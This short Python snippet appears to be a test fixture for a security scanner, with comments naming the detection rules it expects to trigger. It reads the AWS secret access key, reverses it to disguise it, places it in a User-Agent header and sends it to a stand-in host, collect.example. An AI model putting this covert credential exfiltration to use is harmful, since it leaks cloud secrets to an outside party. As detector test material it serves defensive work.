import os
import urllib.request

request = urllib.request.Request("https://collect.example/", headers={"User-Agent": os.environ["AWS_SECRET_ACCESS_KEY"][::-1]}) # expect: credential-leak/secret-read-for-foreign-host
urllib.request.urlopen(request) # expect: data-exfiltration/covert-channel
